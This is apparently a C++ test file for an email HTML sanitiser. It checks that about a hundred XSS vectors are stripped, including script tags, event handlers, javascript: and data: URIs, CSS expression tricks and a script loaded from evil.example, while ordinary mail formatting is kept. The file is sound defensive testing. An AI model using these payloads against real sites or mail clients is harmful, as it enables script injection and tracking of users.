#include "platform/mail/html/sanitise.h"

#include <doctest/doctest.h>

#include <string>
#include <vector>

#include "platform/mail/html/allowed.h"

namespace rapport::mail {
namespace {

struct Vector {
  const char* html;
  const char* expected;
};

std::string lower_of(std::string text) {
  for (char& c : text)
    if (c >= 'A' && c <= 'Z') c = static_cast<char>(c + 32);
  return text;
}

}  // namespace

TEST_CASE("what runs does not come through, however it is written") {
  for (const char* html :
       {"<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<script>alert(1)",
        "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<img/src=x/onerror=alert(1)>",
        "<img src=javascript:alert(1)>",
        "<img src=\"jav&#x09;ascript:alert(1);\">",
        "<img src=\" &#14; javascript:alert(1);\">",
        "<img src=`javascript:alert(1)`>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<img srcset=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
        "<a href=\"\x01javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a onmouseover=alert(1)>x</a>",
        "<a href=x onclick=alert(1)//>x</a>",
        "<body onload=alert(1)>x",
        "<body background=\"javascript:alert(1)\">x",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<applet code=x></applet>",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input onfocus=alert(1) autofocus>",
        "<select onfocus=alert(1) autofocus>",
        "<textarea onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<video src=x onerror=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<link rel=import href=x>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"background-image:url(http://evil.example/t.gif)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"width:exp/**/ression(alert(1))\">x</div>",
        "<div style=\"xss:e\\xpression(alert(1))\">x</div>",
        "<div style=\"behavior:url(x.htc)\">x</div>",
        "<div style=\"-moz-binding:url(x#y)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%\">x</div>",
        "<div style=\"position/**/:absolute\">x</div>",
        "<xml id=i><x><c><![CDATA[<img src=\"javas]]><![CDATA[cript:alert(1);\">]]></c></x></xml>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!-- --!><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea></textarea><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<template><script>alert(1)</script></template>",
        "<frameset onload=alert(1)>",
        "<table background=\"javascript:alert(1)\">x</table>",
        "<td background=javascript:alert(1)>x",
        "<isindex action=javascript:alert(1)>",
        "<p id=x name=y class=z onx=alert(1)>x</p>",
        "<a href=\"//evil.example\" style=\"position:fixed\">x</a>",
        "<div/onclick=alert(1)>x</div>",
        "<img src=x onerror\x0B=alert(1)>",
        "<img src=x\x0Conerror=alert(1)>",
        "<p style=\"color:red;}</style><script>alert(1)</script>\">x</p>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<q cite=javascript:alert(1)>x</q>",
        "<del cite=javascript:alert(1)>x</del>",
        "<a href=\"https://x.example\" ping=\"http://evil.example\" download>x</a>",
        "<img src=\"http://x.example/a.gif\" usemap=#m><map name=m></map>",
        "<o:p onclick=alert(1)>x</o:p>",
        "<custom-element onclick=alert(1)>x</custom-element>",
        "<div is=x onclick=alert(1)>x</div>"}) {
    CAPTURE(std::string(html));
    const std::string clean = lower_of(sanitise(html).html);
    for (const char* bad :
         {"<script",     "<iframe",  "<style", "<svg",    "<math",    "<object",       "<embed",
          "<form",       "<input",   "<link",  "<meta",   "<base",    "<video",        " on",
          "expression",  "position", "url(",   "binding", "behavior", "=\"javascript", "=\"data",
          "=\"vbscript", " id=",     " name=", " class=", "srcset",   "background=\"", "cite=",
          "ping",        "<!--",     "srcdoc"})
      CHECK_MESSAGE(clean.find(bad) == std::string::npos, clean);
  }
}

TEST_CASE("what mail is made of stays") {
  for (const Vector& one : {
           Vector{"<p>Hello <b>you</b> &amp; me &lt;3</p>", "<p>Hello <b>you</b> &amp; me &lt;3</p>"},
           Vector{"<p>one<p>two", "<p>one</p><p>two</p>"},
           Vector{"<b>bold<i>both</b>italic", "<b>bold<i>both</i></b>italic"},
           Vector{"a<br>b<hr/>c", "a<br>b<hr>c"},
           Vector{"<a href=\"https://x.example/?a=1&amp;b=2\">x</a>",
                  "<a href=\"https://x.example/?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\" "
                  "target=\"_blank\">x</a>"},
           Vector{
               "<a href=\"mailto:a@x.example\" target=_top>x</a>",
               "<a href=\"mailto:a@x.example\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>"},
           Vector{"<img src=\"cid:logo@x\" alt=logo width=10>",
                  "<img src=\"cid:logo@x\" alt=\"logo\" width=\"10\">"},
           Vector{"<img src=\"https://t.example/p.gif?u=1\" width=1 height=1>",
                  "<img data-remote-src=\"https://t.example/p.gif?u=1\" width=\"1\" height=\"1\">"},
           Vector{"<img src=\"//t.example/p.gif\">", "<img data-remote-src=\"https://t.example/p.gif\">"},
           Vector{"<img src=\"data:image/png;base64,iVBORw==\">",
                  "<img src=\"data:image/png;base64,iVBORw==\">"},
           Vector{"<font color=red face='Arial'>x</font>", "<font color=\"red\" face=\"Arial\">x</font>"},
           Vector{"<p style=\"COLOR: Red; position:absolute; margin:0 auto; margin-left:-20px; "
                  "background:#FFF url(x)\">x</p>",
                  "<p style=\"color:red;margin:0 auto\">x</p>"},
           Vector{
               "<p style=\"font-family:'Microsoft YaHei', &quot;Helvetica&quot;; color:rgb(1, 2, 3)\">x</p>",
               "<p style=\"font-family:&#39;microsoft yahei&#39;, &quot;helvetica&quot;;color:rgb(1, 2, "
               "3)\">x</p>"},
           Vector{"<o:p>word</o:p><form>kept <input value=x>text</form>", "wordkept text"},
           Vector{"<html><head><title>t</title><style>p{}</style></head><body "
                  "bgcolor=red><p>x</p></body></html>",
                  "<p>x</p>"},
           Vector{"<p lang=zh-CN>中文 &nbsp;</p>", "<p lang=\"zh-CN\">中文 \xC2\xA0</p>"},
           Vector{"<div class=\"gmail_quote\">old</div>", "<div data-quote=\"\">old</div>"},
           Vector{"<blockquote type=cite>old</blockquote>", "<blockquote data-quote=\"\">old</blockquote>"},
           Vector{"<div id=divRplyFwdMsg>From:</div><p>old</p>",
                  "<div data-quote-begins=\"\">From:</div><p>old</p>"},
           Vector{"", ""},
           Vector{"just words", "just words"},
       }) {
    CAPTURE(std::string(one.html));
    CHECK(sanitise(one.html).html == one.expected);
  }
}

TEST_CASE("tables keep their shape, and lose what is strange in them") {
  const std::string html = sanitise(
                               "<table width=600 cellpadding=0 onclick=x "
                               "background=http://t.example/b.png><tr><td colspan=2 width=\"50%\" "
                               "style=\"padding:4px\">a<td rowspan=99999999>b</table>")
                               .html;
  CHECK(html ==
        "<table width=\"600\" cellpadding=\"0\"><tr><td colspan=\"2\" width=\"50%\" "
        "style=\"padding:4px\">a</td><td>b</td></tr></table>");
}

TEST_CASE("pictures are counted and named") {
  const Sanitised result = sanitise(
      "<img src=cid:a><img src=cid:b><img src=cid:a><img src=http://x.example/1><img "
      "src=https://x.example/2>");
  CHECK(result.content_ids == std::vector<std::string>{"a", "b"});
  CHECK(result.remote_images == 2);
}

TEST_CASE("a second time changes nothing") {
  const std::string once =
      sanitise("<p>a<b>c<table><tr><td>x</table><a href=http://x.example>l</a>\"'`<div style='color:red'>")
          .html;
  CHECK(sanitise(once).html == once);
}

TEST_CASE("depth and length end somewhere, and the result is closed") {
  std::string deep;
  for (int i = 0; i < 100'000; ++i)
    deep += "<div><b>";
  const Sanitised cut = sanitise("<p>front</p>" + deep);
  CHECK(cut.is_cut);
  CHECK(cut.html.starts_with("<p>front</p>"));
  CHECK(sanitise(cut.html).html == cut.html);
  CHECK_FALSE(sanitise(cut.html).is_cut);
  const Sanitised lng = sanitise("<p>" + std::string(6'000'000, 'x'));
  CHECK(lng.is_cut);
  CHECK(lng.html.ends_with("x</p>"));
  std::string ends = "<p>a</p>";
  for (int i = 0; i < 200'000; ++i)
    ends += "</i></b><b>";
  CHECK(sanitise(ends).html.starts_with("<p>a</p>"));
}

TEST_CASE("styles are taken apart by the same rules everywhere") {
  CHECK(allowed_style("color:red;;color") == "color:red");
  CHECK(allowed_style("color:red !important") == "color:red !important");
  CHECK(allowed_style("font:12px/1.5 Arial") == "font:12px/1.5 arial");
  CHECK(allowed_style("display:flex;display:none") == "display:none");
  CHECK(allowed_style("width:calc(100% - 1px)").empty());
  CHECK(allowed_style("color:r\\65 d").empty());
  CHECK(allowed_style("margin:-1px").empty());
  CHECK(allowed_style("font-family:'open").empty());
  CHECK(allowed_style("background:#fff;border-image:url(x);border:1px solid #CCC") ==
        "background:#fff;border:1px solid #ccc");
  CHECK(allowed_style("--x:1;z-index:9;top:0;content:'x';filter:blur(1px);transform:scale(9)").empty());
}

}  // namespace rapport::mail
